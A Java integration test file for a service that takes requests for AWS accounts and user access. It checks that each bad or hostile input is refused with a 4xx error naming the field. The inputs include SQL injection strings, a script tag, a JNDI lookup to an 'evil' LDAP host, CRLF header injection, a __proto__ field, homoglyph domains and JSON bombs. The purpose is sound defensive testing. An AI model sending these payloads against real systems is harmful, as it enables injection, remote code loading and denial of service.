package uk.gov.gds.awsam.request.rest;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static uk.gov.gds.awsam.request.Api.ACCOUNT_REQUESTS;
import static uk.gov.gds.awsam.request.Api.USER_REMOVALS;
import static uk.gov.gds.awsam.request.Api.USER_REQUESTS;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Consumer;
import java.util.stream.Stream;

import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import uk.gov.gds.awsam.events.RequestSubmitted;
import uk.gov.gds.awsam.request.Api;
import uk.gov.gds.awsam.request.Bodies;
import uk.gov.gds.awsam.request.Published;
import uk.gov.gds.awsam.testsupport.InjectTestEvents;
import uk.gov.gds.awsam.testsupport.KafkaTestResource;
import uk.gov.gds.awsam.testsupport.TestEvents;
import uk.gov.gds.awsam.testsupport.identity.KeycloakTestResource;

/**
 * Bad input, one rule at a time (and some hostile strings, look-alike letters, very long values and JSON
 * bombs): each gets a 4xx application/problem+json naming the field, and nothing reaches the broker.
 * Every case is sent by one requester of this test's own (a new person of the identity provider costs about a third
 * of a second, a token cached for one costs nothing); the last test reads the whole topic and finds nothing of
 * theirs but a canary sent after the cases.
 */
@QuarkusTest
@WithTestResource(KafkaTestResource.class)
@WithTestResource(KeycloakTestResource.class)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class BadInputTest {

    /** Once, before the first case: readiness asks the broker each time, and no case changes what it reports. */
    private static volatile boolean ready;

    @org.junit.jupiter.api.BeforeEach
    void theServiceHasReadTheRequestsMadeSoFar() {
        if (!ready) {
            uk.gov.gds.awsam.request.Api.awaitReady();
            ready = true;
        }
    }

    private static final String D = Bodies.DOMAIN;
    private static final String REQUESTER = Bodies.uniqueEmail("bad-input");
    private static final AtomicInteger SENT = new AtomicInteger();

    @InjectTestEvents
    TestEvents events;

    /** One bad input: how it is sent, and the status and field the answer must name. */
    record Case(String name, String method, String path, String contentType, byte[] body, Map<String, String> headers,
            int status, String field) {
        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<Case> cases() {
        List<Case> cases = new ArrayList<>();
        // Account name
        cases.add(account("name missing", b -> b.remove("name"), "name"));
        cases.add(account("name empty", b -> b.put("name", ""), "name"));
        cases.add(account("name in upper case", b -> b.put("name", "Pay-Staging"), "name"));
        cases.add(account("name with digits", b -> b.put("name", "pay-staging-2"), "name"));
        cases.add(account("name with a double dash", b -> b.put("name", "pay--staging"), "name"));
        cases.add(account("name starting with a dash", b -> b.put("name", "-pay"), "name"));
        cases.add(account("name ending with a dash", b -> b.put("name", "pay-"), "name"));
        cases.add(account("name of six words", b -> b.put("name", "one-two-three-four-five-six"), "name"));
        cases.add(account("name of 51 characters", b -> b.put("name", "a".repeat(25) + "-" + "b".repeat(25)), "name"));
        cases.add(account("name with an underscore", b -> b.put("name", "pay_staging"), "name"));
        cases.add(account("name with a Cyrillic look-alike a", b -> b.put("name", "p\u0430y-staging"), "name"));
        cases.add(account("name with a fullwidth letter", b -> b.put("name", "pay-\uff53taging"), "name"));
        cases.add(account("name with a space", b -> b.put("name", "pay staging"), "name"));
        cases.add(account("name a number", b -> b.put("name", 42), "name"));
        cases.add(account("name null", b -> b.put("name", null), "name"));
        cases.add(account("name an array", b -> b.put("name", List.of("pay")), "name"));
        // Description and tag values
        cases.add(account("description of 257 characters", b -> b.put("description", "d".repeat(257)), "description"));
        cases.add(account("description with a script tag", b -> b.put("description", "<script>alert(1)</script>"), "description"));
        cases.add(account("description with a newline", b -> b.put("description", "line one\nline two"), "description"));
        cases.add(account("description with a zero-width space", b -> b.put("description", "pay\u200bment"), "description"));
        cases.add(account("description with a right-to-left override", b -> b.put("description", "abc\u202Egnp.exe"), "description"));
        cases.add(account("description with an emoji", b -> b.put("description", "payments \uD83D\uDCB8"), "description"));
        cases.add(account("description with a NUL", b -> b.put("description", "pay\u0000ments"), "description"));
        cases.add(account("description with SQL", b -> b.put("description", "x'; DROP TABLE accounts; --"), "description"));
        cases.add(account("description with a template expression", b -> b.put("description", "${jndi:ldap://evil/x}"), "description"));
        cases.add(account("description missing", b -> b.remove("description"), "description"));
        cases.add(account("description blank", b -> b.put("description", "   "), "description"));
        cases.add(account("team name with angle brackets", b -> at(b, "team").put("name", "<b>Team</b>"), "team.name"));
        cases.add(account("critical resources of 300 characters", b -> at(b, "security").put("criticalResources", "r".repeat(300)),
                "security.criticalResources"));
        // Organisation and cost centre
        cases.add(account("organisation not configured", b -> b.put("organisation", "Hooli"), "organisation"));
        cases.add(account("organisation with a look-alike letter", b -> b.put("organisation", "GD\u0405"), "organisation"));
        cases.add(account("organisation in lower case", b -> b.put("organisation", "gds"), "organisation"));
        cases.add(account("cost centre missing where required", b -> b.remove("costCentre"), "costCentre"));
        cases.add(account("cost centre with symbols", b -> b.put("costCentre", "CC 12;34"), "costCentre"));
        // Team
        cases.add(account("team missing", b -> b.remove("team"), "team"));
        cases.add(account("team a string", b -> b.put("team", "Pay Platform"), "team"));
        cases.add(account("team name missing", b -> at(b, "team").remove("name"), "team.name"));
        cases.add(account("team email not an email", b -> at(b, "team").put("email", "not-an-email"), "team.email"));
        cases.add(account("team lead missing", b -> at(b, "team").remove("lead"), "team.lead"));
        cases.add(account("team lead name missing", b -> at(b, "team.lead").remove("name"), "team.lead.name"));
        cases.add(account("team lead role missing", b -> at(b, "team.lead").remove("role"), "team.lead.role"));
        cases.add(account("team lead with neither email nor phone", b -> {
            at(b, "team.lead").remove("email");
            at(b, "team.lead").remove("phone");
        }, "team.lead"));
        cases.add(account("team lead phone in words", b -> at(b, "team.lead").put("phone", "call me maybe"), "team.lead.phone"));
        cases.add(account("team lead email with a look-alike domain", b -> at(b, "team.lead").put("email", "lee@g\u043ev.uk"),
                "team.lead.email"));
        // Service
        cases.add(account("out-of-hours support without a phone", b -> at(b, "service").remove("outOfHoursPhone"),
                "service.outOfHoursPhone"));
        cases.add(account("out-of-hours support a string", b -> at(b, "service").put("outOfHoursSupport", "true"),
                "service.outOfHoursSupport"));
        cases.add(account("out-of-hours support missing", b -> at(b, "service").remove("outOfHoursSupport"),
                "service.outOfHoursSupport"));
        cases.add(account("service name missing", b -> at(b, "service").remove("name"), "service.name"));
        // Security
        cases.add(account("alert priority P5", b -> at(b, "security").put("alertPriority", "P5"), "security.alertPriority"));
        cases.add(account("alert priority in lower case", b -> at(b, "security").put("alertPriority", "p1"), "security.alertPriority"));
        cases.add(account("alert priority with a Cyrillic P", b -> at(b, "security").put("alertPriority", "\u04201"),
                "security.alertPriority"));
        cases.add(account("PII flag missing", b -> at(b, "security").remove("holdsPii"), "security.holdsPii"));
        cases.add(account("PII flag null", b -> at(b, "security").put("holdsPii", null), "security.holdsPii"));
        cases.add(account("PCI flag a number", b -> at(b, "security").put("holdsPciData", 1), "security.holdsPciData"));
        // Admins
        cases.add(account("admins missing", b -> b.remove("adminUserEmails"), "adminUserEmails"));
        cases.add(account("admins empty", b -> b.put("adminUserEmails", List.of()), "adminUserEmails"));
        cases.add(account("admins a string", b -> b.put("adminUserEmails", "admin@" + D), "adminUserEmails"));
        cases.add(account("admin outside the allowed domains", b -> b.put("adminUserEmails", List.of("admin@example.com")),
                "adminUserEmails[0]"));
        cases.add(account("admin in a domain that only starts like an allowed one",
                b -> b.put("adminUserEmails", List.of("admin@" + D + ".evil.com")), "adminUserEmails[0]"));
        cases.add(account("admin in a subdomain of an allowed domain",
                b -> b.put("adminUserEmails", List.of("admin@evil." + D)), "adminUserEmails[0]"));
        cases.add(account("admin with a Cyrillic look-alike domain",
                b -> b.put("adminUserEmails", List.of("admin@digital.cabinet-\u043effice.gov.uk")), "adminUserEmails[0]"));
        cases.add(account("admin email of 65 characters",
                b -> b.put("adminUserEmails", List.of("a".repeat(65 - D.length() - 1) + "@" + D)), "adminUserEmails[0]"));
        cases.add(account("the same admin twice in other cases",
                b -> b.put("adminUserEmails", List.of("admin@" + D, "ADMIN@" + D)), "adminUserEmails[1]"));
        cases.add(account("admin a number", b -> b.put("adminUserEmails", List.of(7)), "adminUserEmails[0]"));
        cases.add(account("eleven admins", b -> b.put("adminUserEmails", people(11)), "adminUserEmails"));
        cases.add(account("admin with a script tag", b -> b.put("adminUserEmails", List.of("<script>@" + D)), "adminUserEmails[0]"));
        cases.add(account("admin with a display name", b -> b.put("adminUserEmails", List.of("Alice <alice@" + D + ">")),
                "adminUserEmails[0]"));
        cases.add(account("admin with a CRLF header injection",
                b -> b.put("adminUserEmails", List.of("admin@" + D + "\r\nBcc: all@" + D)), "adminUserEmails[0]"));
        // Fields that are not fields
        cases.add(account("a requester field in the body", b -> b.put("requesterEmail", "boss@" + D), "requesterEmail"));
        cases.add(account("an unknown nested field", b -> at(b, "team").put("colour", "blue"), "team.colour"));
        cases.add(account("a __proto__ field", b -> b.put("__proto__", Map.of("admin", true)), "__proto__"));
        cases.add(account("several bad fields at once", b -> {
            b.put("name", "Bad Name");
            b.remove("description");
            at(b, "security").put("alertPriority", "urgent");
        }, "security.alertPriority"));
        // People to add or remove
        cases.add(users(USER_REQUESTS, "people missing", Map.of(), "userEmails"));
        cases.add(users(USER_REQUESTS, "people empty", Map.of("userEmails", List.of()), "userEmails"));
        cases.add(users(USER_REQUESTS, "person outside the allowed domains", Map.of("userEmails", List.of("x@gmail.com")),
                "userEmails[0]"));
        cases.add(users(USER_REQUESTS, "fifty-one people", Map.of("userEmails", people(51)), "userEmails"));
        cases.add(users(USER_REQUESTS, "a person with SQL in the name",
                Map.of("userEmails", List.of("bobby');DROP TABLE users;--@" + D)), "userEmails[0]"));
        cases.add(users(USER_REQUESTS, "the same person twice", Map.of("userEmails", List.of("a.b@" + D, "A.B@" + D)),
                "userEmails[1]"));
        cases.add(users(USER_REQUESTS, "a person with an accented name", Map.of("userEmails", List.of("jos\u00e9@" + D)),
                "userEmails[0]"));
        cases.add(users(USER_REMOVALS, "a removal naming an unknown field", Map.of("emails", List.of("a@" + D)), "emails"));
        cases.add(users(USER_REMOVALS, "a removal of nobody", Map.of("userEmails", List.of("  ")), "userEmails[0]"));
        Map<String, Object> nullPerson = new LinkedHashMap<>();
        nullPerson.put("userEmails", java.util.Arrays.asList((Object) null));
        cases.add(users(USER_REMOVALS, "a removal of null", nullPerson, "userEmails[0]"));
        // Bodies that are not JSON objects, and JSON bombs
        cases.add(raw("malformed JSON", "{\"userEmails\": [", 400, "userEmails[0]"));
        cases.add(raw("trailing content after the object", "{\"userEmails\": [\"a@" + D + "\"]} {}", 400, "body"));
        cases.add(raw("a JSON array", "[\"a@" + D + "\"]", 400, "body"));
        cases.add(raw("a JSON string", "\"a@" + D + "\"", 400, "body"));
        cases.add(raw("an empty body", "", 400, "body"));
        cases.add(raw("a duplicated field", "{\"userEmails\": [\"a@" + D + "\"], \"userEmails\": [\"b@" + D + "\"]}", 400,
                "userEmails"));
        cases.add(raw("nesting 5,000 arrays deep", "[".repeat(5000) + "]".repeat(5000), 400, "body"));
        cases.add(raw("nesting deep inside a field", "{\"userEmails\": " + "[".repeat(50) + "]".repeat(50) + "}", 400,
                "userEmails"));
        cases.add(raw("a number of 10,000 digits", "{\"userEmails\": " + "9".repeat(10_000) + "}", 400, "userEmails"));
        cases.add(raw("a field name of 1,000 characters", "{\"" + "n".repeat(1000) + "\": 1}", 400, "body"));
        cases.add(raw("JSON with a comment", "{/* hi */ \"userEmails\": [\"a@" + D + "\"]}", 400, "body"));
        cases.add(raw("JSON with single quotes", "{'userEmails': ['a@" + D + "']}", 400, "body"));
        cases.add(raw("three thousand unknown fields", thousandsOfFields(3000), 413, "body"));
        cases.add(raw("five hundred unknown fields", thousandsOfFields(500), 400, "f0"));
        cases.add(raw("a value of 20,000 characters", "{\"userEmails\": [\"" + "a".repeat(20_000) + "@" + D + "\"]}", 413, "body"));
        cases.add(raw("a body of 2 MB", "{\"userEmails\": [\"" + "a".repeat(2_000_000) + "\"]}", 413, "body"));
        cases.add(new Case("invalid UTF-8", "POST", USER_REQUESTS, "application/json",
                new byte[] { '{', '"', 'u', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}' }, Map.of(), 400, "u"));
        // Content types, methods and headers
        String valid = Bodies.json(Bodies.users("a@" + D));
        cases.add(new Case("text/plain", "POST", USER_REQUESTS, "text/plain", bytes(valid), Map.of(), 415, "Content-Type"));
        cases.add(new Case("no content type", "POST", USER_REQUESTS, null, bytes(valid), Map.of(), 415, "Content-Type"));
        cases.add(new Case("application/xml", "POST", USER_REQUESTS, "application/xml",
                bytes("<userEmails><e>a@" + D + "</e></userEmails>"), Map.of(), 415, "Content-Type"));
        cases.add(new Case("JSON in ISO-8859-1", "POST", USER_REQUESTS, "application/json; charset=ISO-8859-1", bytes(valid),
                Map.of(), 415, "Content-Type"));
        cases.add(new Case("a form", "POST", USER_REQUESTS, "application/x-www-form-urlencoded", bytes("userEmails=a@" + D),
                Map.of(), 415, "Content-Type"));
        cases.add(new Case("GET on the account requests", "GET", ACCOUNT_REQUESTS, null, null, Map.of(), 405, "method"));
        cases.add(new Case("PUT on the account requests", "PUT", ACCOUNT_REQUESTS, "application/json", bytes(valid), Map.of(), 405,
                "method"));
        cases.add(new Case("DELETE on the user requests", "DELETE", USER_REQUESTS, null, null, Map.of(), 405, "method"));
        cases.add(new Case("PATCH on the user removals", "PATCH", USER_REMOVALS, "application/json", bytes(valid), Map.of(), 405,
                "method"));
        cases.add(new Case("an Idempotency-Key of 300 characters", "POST", USER_REQUESTS, "application/json", bytes(valid),
                Map.of(Api.IDEMPOTENCY_KEY, "k".repeat(300)), 400, Api.IDEMPOTENCY_KEY));
        cases.add(new Case("an Idempotency-Key with spaces", "POST", USER_REQUESTS, "application/json", bytes(valid),
                Map.of(Api.IDEMPOTENCY_KEY, "my key"), 400, Api.IDEMPOTENCY_KEY));
        return cases.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    @Order(1)
    void isRefusedWithAProblemNamingTheField(Case bad) {
        SENT.incrementAndGet();
        RequestSpecification request = given().auth().oauth2(Api.token(REQUESTER, false)).headers(bad.headers());
        if (bad.contentType() != null) {
            request = request.contentType(bad.contentType());
        }
        if (bad.body() != null) {
            // REST Assured encodes a form itself: give it the text.
            request = "application/x-www-form-urlencoded".equals(bad.contentType())
                    ? request.body(new String(bad.body(), StandardCharsets.UTF_8))
                    : request.body(bad.body());
        }
        Response response = request.request(bad.method(), bad.path());

        response.then().statusCode(bad.status()).contentType(Problems.MEDIA_TYPE)
                .body("status", equalTo(bad.status()))
                .body("errors.field", hasItem(bad.field()));
        assertThat(response.statusCode()).isBetween(400, 499);
    }

    @Test
    @Order(2)
    void noneOfThemPublishedAnything() {
        String canary = Bodies.uniqueEmail("someone");
        Api.as(REQUESTER).body(Bodies.json(Bodies.users(canary))).post(USER_REQUESTS).then().statusCode(202);

        List<ConsumerRecord<String, RequestSubmitted>> published = Published.all(events, RequestSubmitted.class,
                record -> REQUESTER.equals(record.value().getRequesterEmail()));

        assertThat(SENT.get()).isGreaterThanOrEqualTo(60);
        assertThat(published).as("the cases published nothing; the canary after them was published")
                .extracting(record -> record.value().getUserEmails()).containsExactly(List.of(canary));
    }

    private static Case account(String name, Consumer<Map<String, Object>> breakIt, String field) {
        Map<String, Object> body = Bodies.account(Bodies.uniqueAccountName("bad"));
        breakIt.accept(body);
        return new Case(name, "POST", ACCOUNT_REQUESTS, "application/json", bytes(Bodies.json(body)), Map.of(), 400, field);
    }

    private static Case users(String path, String name, Map<String, Object> body, String field) {
        return new Case(name, "POST", path, "application/json", bytes(Bodies.json(body)), Map.of(), 400, field);
    }

    private static Case raw(String name, String body, int status, String field) {
        return new Case(name, "POST", USER_REQUESTS, "application/json", bytes(body), Map.of(), status, field);
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> at(Map<String, Object> body, String path) {
        Map<String, Object> object = body;
        for (String name : path.split("\\.")) {
            object = (Map<String, Object>) object.get(name);
        }
        return object;
    }

    private static List<String> people(int count) {
        List<String> people = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            people.add("person" + i + "@" + D);
        }
        return people;
    }

    private static String thousandsOfFields(int count) {
        StringBuilder body = new StringBuilder("{");
        for (int i = 0; i < count; i++) {
            body.append(i == 0 ? "" : ",").append("\"f").append(i).append("\":").append(i);
        }
        return body.append('}').toString();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
